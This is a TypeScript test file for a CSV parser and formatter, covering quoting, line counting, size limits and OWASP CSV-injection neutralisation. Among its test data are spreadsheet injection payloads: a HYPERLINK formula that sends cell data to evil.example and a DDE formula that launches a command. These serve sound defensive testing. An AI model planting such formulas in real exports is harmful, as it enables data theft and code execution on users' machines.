import { describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import {
  CSV_LIMITS,
  capIssuesByLine,
  formatCsv,
  isFormulaLike,
  parseCsv,
  restoreFormula,
} from './csv.js';
import type { CsvRecord } from './csv.js';

const fieldsOf = (text: string, delimiter = ',') =>
  parseCsv(text, delimiter).records.map((r) => r.fields);

/** Strings that break naive CSV code, and text a city's translators really write. */
const TRICKY = [
  '',
  'plain',
  'say "hello"',
  '"',
  '""',
  '"quoted at both ends"',
  'a, b, and c',
  ',',
  'first line\r\nsecond line',
  'first line\nsecond line',
  'old Mac\rline',
  '\r\n',
  '\n\n\n',
  '  leading and trailing spaces  ',
  ' ',
  '\t tab',
  '👩🏽‍⚕️ Ärztin, 🇺🇦 Україна, 😀',
  'مرحبا بكم في مكتب الهجرة',
  '\u202Eevil override\u202C and \u200Fmark\u200E',
  '=SUM(A1)',
  '+1 234',
  '-1',
  '@cmd',
  '\uFEFFstarts with a BOM',
  'semi;colon',
  'mixed "quotes", commas\r\nand\nbreaks\r',
];

describe('parseCsv', () => {
  it('reads quoted fields with delimiters, doubled quotes and every kind of line break', () => {
    const text = 'id,text\r\na,"x, ""y"""\r\nb,"one\r\ntwo\nthree\rfour"\r\nc,last';
    expect(parseCsv(text)).toEqual({
      records: [
        { line: 1, fields: ['id', 'text'] },
        { line: 2, fields: ['a', 'x, "y"'] },
        { line: 3, fields: ['b', 'one\r\ntwo\nthree\rfour'] },
        // The quoted field above spans lines 3 to 6.
        { line: 7, fields: ['c', 'last'] },
      ],
      issues: [],
      skipped: 0,
    });
  });

  it('counts LF, CR and CRLF between records as one line each', () => {
    expect(parseCsv('a\nb\rc\r\nd').records.map((r) => [r.line, r.fields[0]])).toEqual([
      [1, 'a'],
      [2, 'b'],
      [3, 'c'],
      [4, 'd'],
    ]);
  });

  it('drops a leading byte order mark and does not start a record after the last line break', () => {
    expect(fieldsOf('\uFEFFid,path\r\n')).toEqual([['id', 'path']]);
    expect(fieldsOf('')).toEqual([]);
    expect(fieldsOf('\uFEFF')).toEqual([]);
  });

  it('keeps empty fields, blank lines and a trailing delimiter', () => {
    expect(fieldsOf('a,,\r\n\r\n,b\r\n""')).toEqual([['a', '', ''], [''], ['', 'b'], ['']]);
  });

  it('keeps spaces around unquoted fields as they are', () => {
    expect(fieldsOf(' a , b ')).toEqual([[' a ', ' b ']]);
  });

  it('reports a quote that is never closed at the line where it opens', () => {
    const text = 'id,text\r\na,fine\r\nb,"multi\r\nline"\r\nc,"never closed\r\nd,x\r\n';
    expect(parseCsv(text)).toEqual({
      records: [
        { line: 1, fields: ['id', 'text'] },
        { line: 2, fields: ['a', 'fine'] },
        { line: 3, fields: ['b', 'multi\r\nline'] },
      ],
      issues: [expect.objectContaining({ line: 5, column: 2, code: 'unterminated-quote' })],
      skipped: 1,
    });
  });

  it('reports stray quotes, leaves out their records and goes on counting lines', () => {
    const text = 'a,b"c\r\n"x"y,z\r\n"ok\r\nok",fine\r\nlast,row';
    const result = parseCsv(text);
    expect(result.issues).toEqual([
      expect.objectContaining({ line: 1, column: 2, code: 'invalid-quote' }),
      expect.objectContaining({ line: 2, column: 1, code: 'invalid-quote' }),
    ]);
    expect(result.records).toEqual([
      { line: 3, fields: ['ok\r\nok', 'fine'] },
      { line: 5, fields: ['last', 'row'] },
    ]);
  });

  it('reports an unclosed quote even in a record that already has a stray quote', () => {
    expect(parseCsv('a"b,"open\r\nmore').issues.map((i) => [i.line, i.code])).toEqual([
      [1, 'invalid-quote'],
      [1, 'unterminated-quote'],
    ]);
  });

  it('reads another delimiter and rejects one that cannot work', () => {
    expect(fieldsOf('a;"b;c";d', ';')).toEqual([['a', 'b;c', 'd']]);
    expect(() => parseCsv('a', '"')).toThrow(TypeError);
    expect(() => parseCsv('a', ';;')).toThrow(TypeError);
  });
});

describe('formatCsv', () => {
  it('quotes only where needed and changes no text but a formula', () => {
    expect(
      formatCsv([['id', 'text'], ['a', 'x, "y"'], ['b', '=SUM(A1)'], ['c', ' padded'], ['']]),
    ).toBe('id,text\r\na,"x, ""y"""\r\nb,"\'=SUM(A1)"\r\nc," padded"\r\n""\r\n');
    expect(formatCsv([['b', '=SUM(A1)']], { neutraliseFormulas: false })).toBe('b,=SUM(A1)\r\n');
  });

  it('writes a byte order mark and LF line breaks on request', () => {
    expect(formatCsv([['a', 'b']], { bom: true, newline: '\n' })).toBe('\uFEFFa,b\n');
    expect(formatCsv([['a;b', 'c']], { delimiter: ';' })).toBe('"a;b";c\r\n');
    expect(formatCsv([])).toBe('');
  });

  it('refuses a record without fields, which CSV cannot hold', () => {
    expect(() => formatCsv([['a'], []])).toThrow(TypeError);
  });

  it('round-trips tricky strings byte for byte, also through UTF-8 bytes', () => {
    const rows = TRICKY.map((text, i) => [String(i), text, text, '']);
    rows.push(TRICKY);
    rows.push([TRICKY.join('')]);
    const csv = formatCsv(rows, { bom: true });
    const bytes = new TextEncoder().encode(csv);
    const decoded = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(decoded).toBe(csv);
    const parsed = parseCsv(decoded);
    expect(parsed.issues).toEqual([]);
    expect(parsed.records.map((r) => r.fields.map(restoreFormula))).toEqual(rows);
    const verbatim = parseCsv(formatCsv(rows, { neutraliseFormulas: false }));
    expect(verbatim.records.map((r) => r.fields)).toEqual(rows);
    // Byte for byte: every field compares equal as UTF-8.
    verbatim.records.forEach((r, i) =>
      r.fields.forEach((f, j) =>
        expect(Buffer.from(f, 'utf8').equals(Buffer.from(rows[i]![j]!, 'utf8'))).toBe(true),
      ),
    );
  });
});

describe('parseCsv(formatCsv(rows))', () => {
  const special = fc.constantFrom(
    ...['"', ',', ';', '\t', '\r', '\n', '\r\n', ' ', '\uFEFF', '=', '+', '-', '@', "'"],
    ...['\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\u3000'],
  );
  const unit = fc.oneof(special, fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }));
  const field = fc.string({ unit, maxLength: 12 });
  const rows = fc.array(fc.array(field, { minLength: 1, maxLength: 6 }), { maxLength: 8 });

  it('gives back every row, field for field', () => {
    fc.assert(
      fc.property(
        rows,
        fc.constantFrom(',', ';', '\t'),
        fc.constantFrom('\r\n' as const, '\n' as const),
        fc.boolean(),
        (input, delimiter, newline, bom) => {
          const parsed = parseCsv(formatCsv(input, { delimiter, newline, bom }), delimiter);
          expect(parsed.issues).toEqual([]);
          // No cell is written as a live formula, and restoreFormula gives every text back.
          for (const r of parsed.records)
            for (const f of r.fields) expect(isFormulaLike(f)).toBe(false);
          expect(parsed.records.map((r) => r.fields.map(restoreFormula))).toEqual(input);
          const options = { delimiter, newline, bom, neutraliseFormulas: false };
          const verbatim = parseCsv(formatCsv(input, options), delimiter);
          expect(verbatim.records.map((r) => r.fields)).toEqual(input);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('numbers each record by the physical line it starts on', () => {
    const breaks = (s: string) => (s.match(/\r\n|\r|\n/g) ?? []).length;
    fc.assert(
      fc.property(rows, (input) => {
        let line = 1;
        const expected = input.map((row) => {
          const start = line;
          line += 1 + row.reduce((n, f) => n + breaks(f), 0);
          return start;
        });
        expect(parseCsv(formatCsv(input)).records.map((r) => r.line)).toEqual(expected);
      }),
    );
  });

  it('never throws on arbitrary text, and every issue points at a line of it', () => {
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 60 }), (text) => {
        const result = parseCsv(text);
        const lines = text.split(/\r\n|\r|\n/).length;
        for (const issue of [...result.issues, ...result.records]) {
          expect(issue.line).toBeGreaterThanOrEqual(1);
          expect(issue.line).toBeLessThanOrEqual(lines);
        }
      }),
    );
  });
});

describe('the csv module', () => {
  it('imports only its own formula module and no Node built-ins, so it runs in a browser or a worker', () => {
    const csv = readFileSync(join(import.meta.dirname, 'csv.ts'), 'utf8');
    const imports = [...csv.matchAll(/^\s*(?:import|export)\b[^;]*?from '([^']+)'/gm)].map(
      (m) => m[1],
    );
    expect(new Set(imports)).toEqual(new Set(['./csv-formula.js']));
    const formula = readFileSync(join(import.meta.dirname, 'csv-formula.ts'), 'utf8');
    expect(formula).not.toMatch(/^\s*import\b|\bimport\(|\brequire\(/m);
    for (const text of [csv, formula]) {
      expect(text).not.toMatch(/\bimport\(|\brequire\(/);
      expect(text).not.toMatch(/\bprocess\.|\bBuffer\b|\bglobalThis\b/);
    }
  });
});

describe('formula neutralisation (OWASP CSV injection)', () => {
  const FORMULAS = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '\uFF1D1+1', // full-width =
    '\uFF0B1',
    '\uFF0D1',
    '\uFF20SUM(A1)',
    '  =1+1',
    '\u3000=1+1', // ideographic space, then =
    "'=1+1", // a text that really starts with a quote before a formula
    "''-2",
  ];

  it('writes every formula-like text with a leading quote, quoted, and no cell as a live formula', () => {
    for (const text of FORMULAS) {
      const csv = formatCsv([[text]]);
      expect(csv.startsWith(`"'`), JSON.stringify(text)).toBe(true);
      const [field] = parseCsv(csv).records[0]!.fields;
      expect(isFormulaLike(field!)).toBe(false);
      expect(restoreFormula(field!)).toBe(text);
    }
  });

  it('leaves other text alone, a quote that guards nothing included', () => {
    for (const text of ['Bürgerbüro', "'Tis", "it's", 'a=b', 'x-1', '', ' ', '1', '3.5', 'e-mail'])
      expect(parseCsv(formatCsv([[text, 'x']])).records[0]!.fields[0]).toBe(text);
  });

  it('writes number cells as numbers, negative ones included, and refuses other values', () => {
    expect(formatCsv([['a', -3, 0.25, 12]])).toBe('a,-3,0.25,12\r\n');
    expect(formatCsv([['a', '-3']])).toBe('a,"\'-3"\r\n');
    expect(() => formatCsv([['a', Number.NaN]])).toThrow(/finite/);
    expect(() => formatCsv([['a', null as unknown as string]])).toThrow(
      /string or a number, got null/,
    );
    expect(() => formatCsv(null as unknown as string[][])).toThrow(/rows must be an array/);
  });

  it('restoreFormula reverses neutraliseFormula exactly, for any text', () => {
    const unit = fc.oneof(
      fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', '\u3000', '\uFF1D', '"'),
      fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
    );
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 10 }), (text) => {
        const written = parseCsv(formatCsv([[text, '']])).records[0]!.fields[0]!;
        expect(isFormulaLike(written)).toBe(false);
        expect(restoreFormula(written)).toBe(text);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('parseCsv on hostile input and at its limits', () => {
  it('describes at most maxIssues malformed rows and counts the rest', () => {
    const rows = 250;
    const text = `id,text\r\n${'"a"b\r\n'.repeat(rows)}ok,row\r\n`;
    const result = parseCsv(text);
    expect(result.skipped).toBe(rows);
    expect(result.records).toEqual([
      { line: 1, fields: ['id', 'text'] },
      { line: rows + 2, fields: ['ok', 'row'] },
    ]);
    expect(result.issues).toHaveLength(101);
    expect(result.issues.slice(0, 100).every((i) => i.code === 'invalid-quote')).toBe(true);
    expect(result.issues[99]!.line).toBe(101);
    expect(result.issues[100]).toEqual({
      line: 102,
      column: 1,
      code: 'too-many-issues',
      message:
        '150 more malformed row(s) from line 102 on are not described, only counted: at most 100 are (maxIssues); fix the ones above and read the file again.',
      count: 150,
    });
    // A limit that stops the reader is always the last issue, after the count.
    const stopped = parseCsv(`${'"a"b\n'.repeat(5)}x\n"never closed`, { limits: { maxIssues: 2 } });
    expect(stopped.skipped).toBe(6);
    expect(stopped.issues.map((i) => [i.line, i.code])).toEqual([
      [1, 'invalid-quote'],
      [2, 'invalid-quote'],
      [3, 'too-many-issues'],
      [7, 'unterminated-quote'],
    ]);
    expect(parseCsv('"a"b\n', { limits: { maxIssues: Infinity } }).issues).toHaveLength(1);
    // A record with a stray quote and then a quote never closed is one record left out.
    const both = parseCsv('"a"b,"never closed');
    expect(both.issues.map((i) => i.code)).toEqual(['invalid-quote', 'unterminated-quote']);
    expect(both.skipped).toBe(1);
  });

  it('capIssuesByLine sorts, caps, folds a count in and keeps the stopping issue', () => {
    type I = { line: number; code: string; count?: number; message?: string };
    const issues: I[] = [
      { line: 9, code: 'rows-limit-exceeded' },
      { line: 5, code: 'b' },
      { line: 2, code: 'too-many-issues', count: 40 },
      { line: 1, code: 'a' },
      { line: 5, code: 'c' },
      { line: 7, code: 'd' },
    ];
    const closing = (count: number, line: number): I => ({
      line,
      code: 'too-many-issues',
      message: `${count} more`,
    });
    expect(capIssuesByLine(issues, 2, closing)).toEqual([
      { line: 1, code: 'a' },
      { line: 5, code: 'b' },
      { line: 9, code: 'rows-limit-exceeded' },
      { line: 2, code: 'too-many-issues', message: '42 more' },
    ]);
    expect(capIssuesByLine(issues.slice(3), 5, closing)).toEqual([
      { line: 1, code: 'a' },
      { line: 5, code: 'c' },
      { line: 7, code: 'd' },
    ]);
  });

  it('reads one million empty records (the issue 12 reproduction; its time is in bench/)', () => {
    const text = '\n'.repeat(1_000_000);
    const skipped = parseCsv(text, { skipBlankLines: true });
    expect(skipped).toEqual({ records: [], issues: [], skipped: 0 });
    const kept = parseCsv(text.slice(0, 200_000));
    expect(kept.issues).toEqual([]);
    expect(kept.records).toHaveLength(200_000);
    expect(kept.records[199_999]).toEqual({ line: 200_000, fields: [''] });
    // One more line passes the default limit of rows, blank ones included.
    const tooMany = parseCsv(`${text}x`, { skipBlankLines: true });
    expect(tooMany.issues.map((i) => [i.line, i.code])).toEqual([
      [1_000_001, 'rows-limit-exceeded'],
    ]);
    expect(parseCsv(text, { limits: { maxRows: 1000 } }).records).toHaveLength(1000);
  });

  it('reads a field of 100,000 doubled quotes and one of 100,000 line breaks', () => {
    const quotes = parseCsv(`"${'""'.repeat(100_000)}",x\n`);
    expect(quotes.records[0]!.fields).toEqual(['"'.repeat(100_000), 'x']);
    const breaks = parseCsv(`"${'\r\n'.repeat(100_000)}"\nnext\n`);
    expect(breaks.records.map((r) => r.line)).toEqual([1, 100_002]);
  });

  it('stops at maxRows with a rows-limit-exceeded issue naming the limit and the first line not read', () => {
    const result = parseCsv('a\nb\nc\nd\n', { limits: { maxRows: 2 } });
    expect(result.records.map((r) => r.fields)).toEqual([['a'], ['b']]);
    expect(result.issues).toEqual([
      {
        line: 3,
        column: 1,
        code: 'rows-limit-exceeded',
        message:
          'The CSV has more than 2 rows, the limit (maxRows); no row from line 3 on was read.',
      },
    ]);
    expect(parseCsv('a\nb\n', { limits: { maxRows: 2 } }).issues).toEqual([]);
  });

  it('stops at maxColumns and maxLength with their own issues', () => {
    const wide = parseCsv('a,b\nc,d,e\nf\n', { limits: { maxColumns: 2 } });
    expect(wide.records.map((r) => r.fields)).toEqual([['a', 'b']]);
    expect(wide.issues.map((i) => [i.line, i.column, i.code])).toEqual([
      [2, 3, 'columns-limit-exceeded'],
    ]);
    expect(wide.issues[0]!.message).toContain('more than 2 columns, the limit (maxColumns)');
    const long = parseCsv('a,b\n', { limits: { maxSize: 3 }, delimiter: ',' });
    expect(long.records).toEqual([]);
    expect(long.issues.map((i) => [i.line, i.code])).toEqual([[1, 'size-limit-exceeded']]);
    expect(long.issues[0]!.message).toContain('longer than the limit of 3 (maxSize)');
  });

  it('has documented default limits', () => {
    expect(CSV_LIMITS).toEqual({
      maxRows: 1_000_000,
      maxColumns: 10_000,
      maxSize: 134_217_728,
      maxIssues: 100,
    });
    expect(parseCsv(','.repeat(10_000)).issues.map((i) => i.code)).toEqual([
      'columns-limit-exceeded',
    ]);
  });

  it('checks its arguments at the door and names the wrong one', () => {
    expect(() => parseCsv(null as unknown as string)).toThrow(
      new TypeError('parseCsv: text must be a string of CSV, got null.'),
    );
    expect(() => parseCsv(42 as unknown as string)).toThrow(
      /text must be a string of CSV, got a number/,
    );
    expect(() => parseCsv('', { limits: { maxRows: 0 } })).toThrow(
      /options\.limits\.maxRows must be a positive whole number or Infinity, got a number/,
    );
    expect(() => parseCsv('', { delimiter: '""' })).toThrow(/delimiter/);
    expect(() => parseCsv('', { limits: { maxLines: 3 } as never })).toThrow(
      'parseCsv: options.limits.maxLines is not a limit; the limits are maxRows, maxColumns, maxSize, maxIssues.',
    );
    expect(parseCsv('a\nb', { limits: { maxRows: Infinity } }).records).toHaveLength(2);
    expect(() => parseCsv('', 3 as unknown as string)).toThrow(
      /options must be a delimiter or an options object/,
    );
  });
});

describe('parseCsv with skipBlankLines', () => {
  it('gives no record for an empty line but counts it as a line and a row', () => {
    const text = 'a\n\r\n\rb\n""\n';
    expect(parseCsv(text, { skipBlankLines: true }).records).toEqual([
      { line: 1, fields: ['a'] },
      { line: 4, fields: ['b'] },
      { line: 5, fields: [''] },
    ]);
    expect(
      parseCsv('\n'.repeat(10), { skipBlankLines: true, limits: { maxRows: 5 } }).issues.map(
        (i) => [i.line, i.code],
      ),
    ).toEqual([[6, 'rows-limit-exceeded']]);
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('a', ',', '"', '\r', '\n'), maxLength: 30 }),
        (t) => {
          const all = parseCsv(t);
          const skipped = parseCsv(t, { skipBlankLines: true });
          expect(skipped.issues).toEqual(all.issues);
          const blankLine = (r: CsvRecord) =>
            r.fields.length === 1 &&
            r.fields[0] === '' &&
            /^(?:\r|\n|$)/.test(t.split(/\r\n|\r|\n/)[r.line - 1] ?? '');
          expect(skipped.records).toEqual(all.records.filter((r) => !blankLine(r)));
        },
      ),
    );
  });
});
